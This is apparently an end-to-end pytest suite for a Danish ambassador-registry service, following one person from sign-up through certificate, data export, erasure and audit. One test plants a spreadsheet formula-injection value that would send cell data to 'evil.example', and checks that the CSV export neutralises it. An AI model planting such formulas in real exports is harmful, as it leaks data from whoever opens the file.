"""One ambassador's life, end to end: the stack as ``make up`` runs it, driven by the CLI.

The steps share one stack (module-scoped ``stack`` fixture) and run in file order; each step
records what later steps need in ``journey`` and a later step whose input is missing skips,
so one failure does not hide the rest. Everything goes through ``samskab`` as a subprocess;
only what the CLI cannot show is read directly: the confirmation token from the AMBASSADORS
stream (no mail is sent yet) and, after erasure, the service's MongoDB database and the
certificate bucket.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import datetime
from importlib import resources
from pathlib import Path
from typing import Any

import nats
import pytest
from nats.js.errors import NotFoundError
from pymongo import MongoClient
from pypdf import PdfReader

from services.runtime.tokens import AMBASSADOR_CONFIRMATION, Signer, expiry
from stack.nats import run_sync
from tests.e2e.conftest import PUBLIC_URL, SERVICES, CliHangError, StackRun
from tests.e2e.mailbox import Mailbox
from tests.e2e.steps import (
    ambassador_by_email,
    need,
    one_line_error,
    poll,
    received_line,
    whitespace_free,
)

pytestmark = pytest.mark.e2e


NAME = "Birthe Ærø Søndergaard"
EMAIL = "birthe.soendergaard@example.org"
DESCRIPTION = "Laver mad til fællesspisning i Byens Hus hver torsdag."
GOOD_IMPORT_EMAIL = "kontakt@madklubben-vest.example"
DATABASE = "samskab_ambassadors"
SERVICE_DATABASES = (DATABASE, "samskab_newsletter", "samskab_events")
STREAM = "AMBASSADORS"
SIGNED_UP = "ambassadors.v1.signed_up"
# Anything that looks like an e-mail address.
EMAIL_PATTERN = re.compile(r"[\w.+-]+@[\w-]+(\.[\w-]+)+")


@dataclass
class Journey:
    """What one step learns and a later one needs."""

    ambassador_id: str | None = None
    token: str | None = None
    code: str | None = None
    bucket: str | None = None
    object_name: str | None = None
    before_restart: list[tuple[str, str]] | None = None
    signed_up_events: int | None = None


@pytest.fixture(scope="module")
def journey() -> Journey:
    return Journey()


def demo_csv_emails() -> frozenset[str]:
    text = (
        resources.files("services.ambassadors")
        .joinpath("demo/ambassadors-2022.csv")
        .read_text(encoding="utf-8")
    )
    return frozenset(row["email"].strip().lower() for row in csv.DictReader(text.splitlines()))


# ---------------------------------------------------------------- NATS and MongoDB


async def _latest_signed_up(nats_url: str, login: dict[str, str]) -> dict[str, Any] | None:
    nc = await nats.connect(nats_url, connect_timeout=3, allow_reconnect=False, **login)
    try:
        msg = await nc.jetstream().get_last_msg(STREAM, SIGNED_UP)
    except NotFoundError:
        return None
    finally:
        await nc.close()
    event: dict[str, Any] = json.loads(msg.data or b"{}")
    return event


def signed_up_event(stack: StackRun, ambassador_id: str) -> dict[str, Any]:
    """The newest ``signed_up`` event of this ambassador, once the outbox relay published it."""

    def probe() -> dict[str, Any] | None:
        login = stack.nats_login("ambassadors")
        event = run_sync(_latest_signed_up(stack.env["SAMSKAB_NATS_URL"], login))
        return event if event and event.get("ambassador_id") == ambassador_id else None

    return poll(probe, timeout=15, what=f"a {SIGNED_UP} event for {ambassador_id} on {STREAM}")


async def _count_on_subject(nats_url: str, subject: str, login: dict[str, str]) -> int:
    nc = await nats.connect(nats_url, connect_timeout=3, allow_reconnect=False, **login)
    try:
        info = await nc.jetstream().stream_info(STREAM, subjects_filter=subject)
    finally:
        await nc.close()
    return (info.state.subjects or {}).get(subject, 0)


async def _object_exists(nats_url: str, bucket: str, name: str, login: dict[str, str]) -> bool:
    nc = await nats.connect(nats_url, connect_timeout=3, allow_reconnect=False, **login)
    try:
        store = await nc.jetstream().object_store(bucket)
        await store.get_info(name)
    except NotFoundError:
        return False
    finally:
        await nc.close()
    return True


def _texts(value: Any) -> Iterator[str]:
    """Every key and leaf of a BSON document as text; binary (outbox payloads) decoded."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield str(key)
            yield from _texts(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from _texts(item)
    elif isinstance(value, bytes | bytearray | memoryview):
        yield bytes(value).decode("utf-8", errors="replace")
    else:
        yield str(value)


def documents_holding(mongo_url: str, needles: list[str]) -> list[str]:
    """``database.collection/_id: needle`` for every document of any service's database
    holding one (erasure reaches every service that knew the person)."""
    wanted = [n.casefold() for n in needles]
    found: list[str] = []
    client: MongoClient[dict[str, Any]] = MongoClient(mongo_url, serverSelectionTimeoutMS=5000)
    try:
        for database in SERVICE_DATABASES:
            db = client[database]
            for collection in db.list_collection_names():
                for doc in db[collection].find():
                    text = "\n".join(_texts(doc)).casefold()
                    found += [
                        f"{database}.{collection}/{doc.get('_id')}: {n!r}"
                        for n in wanted
                        if n in text
                    ]
    finally:
        client.close()
    return found


# ---------------------------------------------------------------- the journey


def test_the_demo_organisations_are_imported(stack: StackRun) -> None:
    demo = demo_csv_emails()
    assert len(demo) == 85, "the shipped demo CSV should list 85 organisations"

    def imported() -> dict[str, Any] | None:
        page: dict[str, Any] = stack.cli("ambassadors", "list", "--json").ok().json()
        return page if page["total"] >= len(demo) else None

    page = poll(imported, timeout=30, what="85 demo ambassadors listed")
    assert page["total"] == 85
    assert {a["email"].lower() for a in page["items"]} == demo
    for a in page["items"]:
        assert (a["status"], a["source"]) == ("active", "import"), a
        assert a["certificate"] is not None, a

    human = stack.cli("ambassadors", "list").ok().stdout.splitlines()
    assert human[0].split() == ["ID", "STATUS", "KIND", "NAME", "EMAIL"]
    assert human[-1] == "85 of 85"


def test_self_sign_up_is_pending_until_confirmed(stack: StackRun, journey: Journey) -> None:
    sign_up = [
        "ambassadors",
        "sign-up",
        "--name",
        NAME,
        "--email",
        EMAIL,
        "--kind",
        "citizen",
        "--theme",
        "3",
        "--skill",
        "madlavning",
        "--public",
        "--consent",
    ]
    # The answer says nothing about the address; staff see the sign-up in the list.
    assert stack.cli(*sign_up, "--json").ok().json() == {"received": True}
    a = ambassador_by_email(stack, EMAIL)
    assert (a["status"], a["source"], a["name"], a["email"]) == ("pending", "self", NAME, EMAIL)
    assert a["certificate"] is None
    journey.ambassador_id = a["id"]

    # Signing up again with the same address re-issues the link, and answers as before.
    again = stack.cli(*sign_up).ok()
    assert again.stdout.strip() == received_line(EMAIL), again.describe()

    # The newest signed_up event carries what the re-issued link is made of (no token: it
    # travels on no stream); the newsletter service signs it into the mail, and the person
    # confirms with what the mail says.
    event = signed_up_event(stack, a["id"])
    assert (event["source"], event["email"]) == ("self", EMAIL)
    assert "confirmation_token" not in event
    signer = Signer(stack.token_secret("ambassadors_token_secret"), AMBASSADOR_CONFIRMATION)
    expires = datetime.fromisoformat(event["token_expires_at"])
    token = signer.sign(event["ambassador_id"], event["confirmation_nonce"], expiry(expires))
    link = f"{PUBLIC_URL}/confirm/{token}"
    mails = Mailbox(stack.data_dir / "mail").wait(
        lambda m: EMAIL in m.to and link in m.text,
        timeout=60,
        what=f"the confirmation mail with the re-issued link to {EMAIL}",
    )
    # The link and its page are the way: no command line in the mail.
    assert "samskab ambassadors" not in mails[0].text
    journey.token = token


def test_a_bad_sign_up_names_the_fields_and_stores_nothing(stack: StackRun) -> None:
    bad = ["ambassadors", "sign-up", "--name", "Uden Samtykke", "--email", "ikke-en-adresse"]
    bad += ["--kind", "citizen"]

    human = stack.cli(*bad)
    error = one_line_error(human)
    assert "consent" in error and "email" in error, error
    assert human.stdout == "", human.describe()

    structured = stack.cli(*bad, "--json")
    assert structured.returncode != 0, structured.describe()
    body = structured.json()
    assert body["ok"] is False
    assert body["error"]["code"] == "validation_failed"
    assert {d["field"] for d in body["error"]["details"]} >= {"consent", "email"}
    assert all(d["message"] for d in body["error"]["details"])

    page = stack.cli("ambassadors", "list", "--json").ok().json()
    assert page["total"] == 86, "85 demo organisations and the pending sign-up, nothing more"


def test_confirm_activates(stack: StackRun, journey: Journey) -> None:
    ambassador_id = need(journey.ambassador_id, "the ambassador")
    token = need(journey.token, "the confirmation token")

    confirmed = stack.cli("ambassadors", "confirm", token).ok()
    assert confirmed.stdout.strip() == f"{ambassador_id} active: {NAME}"

    a = stack.cli("ambassadors", "show", ambassador_id, "--json").ok().json()
    assert a["status"] == "active" and a["activated_at"]
    assert a["certificate"]["number"] and a["certificate"]["verification_code"]
    journey.code = a["certificate"]["verification_code"]

    shown = stack.cli("ambassadors", "show", ambassador_id).ok().stdout
    assert re.search(r"^status\s+active$", shown, re.M), shown
    assert re.search(rf"^name\s+{re.escape(NAME)}$", shown, re.M), shown
    assert f"(code {journey.code})" in shown

    # Following the link again activates nobody twice: the same certificate, and either a
    # friendly success or a one-line error.
    again = stack.cli("ambassadors", "confirm", token)
    if again.returncode != 0:
        one_line_error(again)
    a_again = stack.cli("ambassadors", "show", ambassador_id, "--json").ok().json()
    assert a_again["certificate"] == a["certificate"]
    assert a_again["activated_at"] == a["activated_at"]


def test_the_certificate_is_a_pdf_with_the_name(
    stack: StackRun, journey: Journey, tmp_path: Path
) -> None:
    ambassador_id = need(journey.ambassador_id, "the ambassador")
    pdf = tmp_path / "ambassadørbevis.pdf"

    # Rendered on demand if the background renderer has not got to it yet: no waiting.
    location = stack.cli("ambassadors", "certificate", ambassador_id, "--out", str(pdf), "--json")
    written = location.ok().json()
    assert Path(written["path"]) == pdf
    assert pdf.read_bytes().startswith(b"%PDF-")
    assert written["size"] == pdf.stat().st_size
    journey.bucket, journey.object_name = written["bucket"], written["object_name"]

    reader = PdfReader(pdf)
    assert len(reader.pages) == 1, "a one-page certificate"
    text = whitespace_free(reader.pages[0].extract_text())
    assert whitespace_free(NAME) in text, text
    assert written["number"] in text and need(journey.code, "the code") in text

    human = stack.cli("ambassadors", "certificate", ambassador_id, "--out", str(pdf)).ok()
    assert human.stdout.strip() == f"certificate {written['number']} written to {pdf}"


def test_verify_tells_genuine_from_unknown(stack: StackRun, journey: Journey) -> None:
    code = need(journey.code, "the verification code")

    checked = stack.cli("ambassadors", "verify", code, "--json").ok().json()
    assert (checked["genuine"], checked["valid"], checked["holder"]) == (True, True, NAME)

    # People type codes as they read them: lower case is fine.
    human = stack.cli("ambassadors", "verify", code.lower()).ok().stdout.strip()
    assert human.startswith(f"{code}: genuine and valid: "), human
    assert NAME in human

    unknown = stack.cli("ambassadors", "verify", "ZZZZ-9999")
    assert unknown.returncode == 1, unknown.describe()
    assert "no certificate has this code" in unknown.stdout, unknown.describe()
    assert stack.cli("ambassadors", "verify", "ZZZZ-9999", "--json").json()["genuine"] is False


def test_the_directory_lists_the_public_ambassador_without_e_mails(
    stack: StackRun, journey: Journey
) -> None:
    ambassador_id = need(journey.ambassador_id, "the ambassador")

    listed = stack.cli("ambassadors", "directory", "--json").ok()
    entries = {e["id"]: e for e in listed.json()["entries"]}
    assert entries[ambassador_id]["display_name"] == NAME
    assert entries[ambassador_id]["themes"] == [3]
    assert len(entries) == 86  # every demo organisation chose to be listed, and she did
    assert EMAIL_PATTERN.search(listed.stdout) is None, "an e-mail address in the directory"

    human = stack.cli("ambassadors", "directory").ok().stdout
    assert EMAIL_PATTERN.search(human) is None, "an e-mail address in the directory"
    assert NAME in human and human.rstrip().endswith("86 listed")


def test_goals_count_the_new_citizen(stack: StackRun, journey: Journey) -> None:
    need(journey.code, "an active ambassador")
    goals = stack.cli("goals", "--json").ok().json()
    assert goals["active"] == 86
    assert goals["citizens"] == 1 and goals["by_kind"]["citizen"] == 1
    assert goals["citizen_share"] == pytest.approx(1 / 86, abs=1e-3)
    assert goals["citizen_share"] > 0

    human = stack.cli("goals").ok().stdout
    assert re.search(r"^active ambassadors\s+86 of 150 \(57%\)$", human, re.M), human


def test_update_changes_the_profile(stack: StackRun, journey: Journey) -> None:
    ambassador_id = need(journey.ambassador_id, "the ambassador")

    updated = stack.cli("ambassadors", "update", ambassador_id, "--description", DESCRIPTION)
    assert updated.ok().stdout.strip() == f"{ambassador_id} updated: {NAME}"

    a = stack.cli("ambassadors", "show", ambassador_id, "--json").ok().json()
    assert a["description"] == DESCRIPTION
    assert (a["status"], a["skills"], a["themes"]) == ("active", ["madlavning"], [3])
    shown = stack.cli("ambassadors", "show", ambassador_id).ok().stdout
    assert re.search(rf"^description\s+{re.escape(DESCRIPTION)}$", shown, re.M), shown

    entries = stack.cli("ambassadors", "directory", "--json").ok().json()["entries"]
    assert [e["description"] for e in entries if e["id"] == ambassador_id] == [DESCRIPTION]

    nothing = one_line_error(stack.cli("ambassadors", "update", ambassador_id))
    assert "nothing to update" in nothing


def test_her_data_on_request_is_one_file_from_every_service(
    stack: StackRun, journey: Journey, tmp_path: Path
) -> None:
    ambassador_id = need(journey.ambassador_id, "the ambassador")
    out = tmp_path / "birthe.json"

    exported = stack.cli("privacy", "export", EMAIL.upper(), "--out", str(out)).ok()

    assert f"ambassador id {ambassador_id}" in exported.stdout, exported.describe()
    assert re.search(r"^\d+ records written to ", exported.stdout, re.M), exported.describe()
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["person"] == {"email": EMAIL, "ambassador_id": ambassador_id}
    assert document["not_answered"] == []
    sections = document["services"]
    assert set(sections) == set(SERVICES)
    [stored] = sections["ambassadors"]["ambassadors"]
    profile = stored["profile"]
    assert (profile["name"], profile["email"], profile["description"]) == (
        NAME,
        EMAIL,
        DESCRIPTION,
    )
    # The welcome mail she was sent, and what the newsletter knows of her.
    assert sections["newsletter"], sections["newsletter"]
    assert "mails" in sections["newsletter"], sorted(sections["newsletter"])
    # Who exported it is in the trail, under her id only.
    trail = stack.cli("audit", "--service", "ambassadors", "--target", ambassador_id, "--json")
    assert trail.ok().json()["items"][0]["command"] == "ambassadors.cmd.privacy.export"

    found = stack.cli("privacy", "audit", EMAIL, "--json")
    assert found.returncode == 1, found.describe()
    places = found.json()["found"]
    assert "collection ambassadors" in {f"{p['kind']} {p['name']}" for p in places["ambassadors"]}
    assert "stream AMBASSADORS" in {f"{p['kind']} {p['name']}" for p in places["ambassadors"]}


def test_import_reports_the_bad_row_and_keeps_the_good_one(stack: StackRun, tmp_path: Path) -> None:
    csv_file = tmp_path / "nye-ambassadører.csv"
    csv_file.write_text(
        "name,email,kind,organisation,public\n"
        f"Kontaktperson,{GOOD_IMPORT_EMAIL},association,Madklubben Vest,ja\n"
        "Kontaktperson,ikke-en-adresse,association,Forkert Forening,ja\n",
        encoding="utf-8",
    )

    result = stack.cli("ambassadors", "import", str(csv_file))
    assert result.returncode == 1, result.describe()
    lines = result.stdout.splitlines()
    assert lines[0] == "imported 1, already there 0, bad rows 1", result.describe()
    assert len(lines) == 2 and lines[1].strip().startswith("line 3: "), result.describe()
    assert "email" in lines[1], result.describe()

    page = stack.cli("ambassadors", "list", "--kind", "association", "--json").ok().json()
    mine = [a for a in page["items"] if a["email"] == GOOD_IMPORT_EMAIL]
    assert len(mine) == 1, page
    assert (mine[0]["status"], mine[0]["source"]) == ("active", "import")
    assert mine[0]["organisation"] == "Madklubben Vest"


def test_the_spreadsheet_export_keeps_what_was_typed_as_text(
    stack: StackRun, tmp_path: Path
) -> None:
    hostile = '=HYPERLINK("https://evil.example/?d="&A2,"Se mere")'
    stack.cli(
        "ambassadors", "sign-up", "--kind", "association", "--name", "Kontakt",
        "--email", "regneark@example.org", "--organisation", hostile, "--staff", "--consent",
    ).ok()  # fmt: skip
    export = tmp_path / "ambassadører.csv"
    said = stack.cli("ambassadors", "list", "--csv", str(export), "--json").ok().json()
    total = stack.cli("ambassadors", "list", "--json").ok().json()["total"]
    assert said == {"file": str(export), "rows": total}
    with export.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f, delimiter=";"))
    assert len(rows) == total > 85
    [mine] = [r for r in rows if r["email"] == "regneark@example.org"]
    assert mine["organisation"] == "'" + hostile
    assert not [r for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@")]
    subscribers = tmp_path / "abonnenter.csv"
    stack.cli("newsletter", "subscribers", "--csv", str(subscribers)).ok()
    assert subscribers.read_bytes().startswith(b"\xef\xbb\xbfid;status;source")


def test_withdrawal_revokes_the_certificate(stack: StackRun, journey: Journey) -> None:
    ambassador_id = need(journey.ambassador_id, "the ambassador")
    code = need(journey.code, "the verification code")
    before = stack.cli("goals", "--json").ok().json()

    withdrawn = stack.cli("ambassadors", "withdraw", ambassador_id).ok()
    assert withdrawn.stdout.strip() == f"{ambassador_id} withdrawn"

    verified = stack.cli("ambassadors", "verify", code)
    assert verified.returncode == 1, verified.describe()
    assert "genuine but no longer valid" in verified.stdout, verified.describe()

    after = stack.cli("goals", "--json").ok().json()
    assert after["active"] == before["active"] - 1
    assert after["citizens"] == before["citizens"] - 1 == 0
    assert after["withdrawn"] == before["withdrawn"] + 1

    entries = stack.cli("ambassadors", "directory", "--json").ok().json()["entries"]
    assert ambassador_id not in {e["id"] for e in entries}


def test_erasure_leaves_no_trace_of_the_person(stack: StackRun, journey: Journey) -> None:
    ambassador_id = need(journey.ambassador_id, "the ambassador")

    refused = one_line_error(stack.cli("ambassadors", "erase", ambassador_id))
    assert "--yes" in refused
    still = stack.cli("ambassadors", "show", ambassador_id, "--json").ok().json()
    assert (still["status"], still["email"]) == ("withdrawn", EMAIL), "erased without --yes"

    erased = stack.cli("ambassadors", "erase", ambassador_id, "--yes").ok()
    assert erased.stdout.strip() == f"{ambassador_id} erased"

    shown = stack.cli("ambassadors", "show", ambassador_id, "--json").ok()
    a = shown.json()
    assert a["status"] == "erased" and a["erased_at"]
    assert (a["name"], a["email"], a["phone"], a["description"]) == (None, None, None, None)
    for text in (shown.stdout, stack.cli("ambassadors", "list", "--json").ok().stdout):
        assert EMAIL not in text.lower() and NAME not in text

    checked = stack.cli("ambassadors", "verify", need(journey.code, "the code"), "--json")
    assert checked.returncode == 1 and checked.json()["holder"] is None, checked.describe()

    # No collection of the service's database holds her e-mail (nor her name) any more.
    # Some of it may be cleaned by a background sweep, so give that a little time.
    mongo_url = stack.env["SAMSKAB_MONGO_URL"]
    holding: list[str] = []

    def clean() -> bool:
        holding[:] = documents_holding(mongo_url, [EMAIL, NAME])
        return not holding

    try:
        poll(clean, timeout=20, interval=1.0, what="no document holds the e-mail or name")
    except AssertionError:
        pytest.fail(
            f"after erasure {len(holding)} document(s) still hold personal "
            "data:\n  " + "\n  ".join(holding[:20])
        )

    # What the operators' search finds of her address: nothing, in any service's
    # collections, event streams or dead letters (the erased record keeps no address).
    def nowhere() -> bool:
        return stack.cli("privacy", "audit", EMAIL).returncode == 0

    try:
        poll(nowhere, timeout=20, interval=1.0, what="samskab privacy audit finds nothing")
    except AssertionError:
        pytest.fail(stack.cli("privacy", "audit", EMAIL).describe())

    # Her certificate PDF (it shows her name) leaves the Object Store too.
    bucket = need(journey.bucket, "the certificate bucket")
    name = need(journey.object_name, "the certificate object")
    nats_url = stack.env["SAMSKAB_NATS_URL"]
    poll(
        lambda: (
            not run_sync(_object_exists(nats_url, bucket, name, stack.nats_login("ambassadors")))
        ),
        timeout=20,
        interval=0.5,
        what=f"certificate {name} deleted from bucket {bucket}",
    )


def test_the_audit_trail_says_who_did_what_to_her_without_naming_her(
    stack: StackRun, journey: Journey
) -> None:
    ambassador_id = need(journey.ambassador_id, "the ambassador")
    trail = stack.cli("audit", "--service", "ambassadors", "--target", ambassador_id, "--json").ok()
    records = trail.json()["items"]
    # Newest first; every command about her (the refused erasure never reached the service).
    commands = [r["command"].rsplit(".", 1)[-1] for r in records]
    assert commands[0] == "erase" and commands[-1] == "sign_up", commands
    assert {"confirm", "update", "withdraw"} <= set(commands), commands
    assert {r["outcome"] for r in records} == {"ok"}
    assert all(r["actor"].startswith("operator:") for r in records), records
    assert EMAIL not in trail.stdout.lower() and NAME not in trail.stdout
    # A command refused is in the trail too, under whoever asked for it.
    other = {**stack.env, "SAMSKAB_ACTOR": "staff:projektleder"}
    one_line_error(
        stack.cli("ambassadors", "update", ambassador_id, "--description", "Ny tekst", env=other)
    )
    latest = stack.cli("audit", "--target", ambassador_id, "--json", env=other).ok().json()
    newest = latest["items"][0]
    assert (newest["actor"], newest["command"], newest["outcome"]) == (
        "staff:projektleder",
        "ambassadors.cmd.update",
        "invalid_state",
    )


def test_operations_dead_letters_and_health(stack: StackRun) -> None:
    dead = stack.cli("dead-letters", "list", "--json").ok().json()
    assert dead["items"] == []
    assert "ambassadors" not in dead["not_running"]

    health = stack.cli("health", "--json").ok().json()
    assert health["running"]["ambassadors"]["status"] == "ok"
    human = stack.cli("health").ok().stdout
    assert re.search(r"^ambassadors\s+ok\b", human, re.M), human


def test_a_restart_resumes_from_the_same_data(stack: StackRun, journey: Journey) -> None:
    def snapshot() -> list[tuple[str, str]]:
        page = stack.cli("ambassadors", "list", "--limit", "1000", "--json").ok().json()
        assert page["total"] == len(page["items"])
        return sorted((a["id"], a["status"]) for a in page["items"])

    # Everything committed is published before the stop, so a restart that published new
    # sign-ups (a second demo import) would show on the stream.
    poll(
        lambda: (
            stack.cli("health", "--json").ok().json()["running"]["ambassadors"]["outbox_pending"]
            == 0
        ),
        timeout=20,
        what="the outbox relay has published everything",
    )
    nats_url = stack.env["SAMSKAB_NATS_URL"]
    journey.before_restart = before = snapshot()
    journey.signed_up_events = events = run_sync(
        _count_on_subject(nats_url, SIGNED_UP, stack.nats_login("ambassadors"))
    )
    # 85 demo, the imported association, the export's association, her (erased), nobody else
    assert len(before) == 88

    stop_cleanly(stack)
    stack.start()
    stack.wait_healthy()

    assert snapshot() == before, "the ambassadors changed across a restart"
    assert (
        run_sync(_count_on_subject(nats_url, SIGNED_UP, stack.nats_login("ambassadors"))) == events
    ), "new sign-ups were published by the restart: the demo import ran again?"
    a = stack.cli("ambassadors", "show", need(journey.ambassador_id, "her"), "--json").ok().json()
    assert (a["status"], a["email"]) == ("erased", None)


def test_the_cli_says_so_when_the_stack_is_down(stack: StackRun) -> None:
    if stack.running:
        stop_cleanly(stack)

    try:
        down = stack.cli("ambassadors", "list", timeout=10)
    except CliHangError as exc:
        pytest.fail(f"with NATS unreachable the CLI must fail fast, not hang: {exc}")
    error = one_line_error(down)
    assert down.seconds < 10
    assert re.search(r"NATS|not running", error), error

    structured = stack.cli("ambassadors", "list", "--json", timeout=10)
    assert structured.returncode != 0, structured.describe()
    assert structured.json()["error"]["code"] == "service_unavailable", structured.describe()


def stop_cleanly(stack: StackRun) -> None:
    """Ctrl-C: the launcher stops everything and exits 0 in time, leaving no process."""
    status, took = stack.interrupt()
    assert status == 0, (
        f"samskab-stack: exit status {status} after {took:.1f} s (None: still running after "
        f"the timeout, killed)\n{stack.launcher_output()}"
    )
    left = stack.leftovers()
    assert not left, "processes left behind after Ctrl-C:\n  " + "\n  ".join(left)
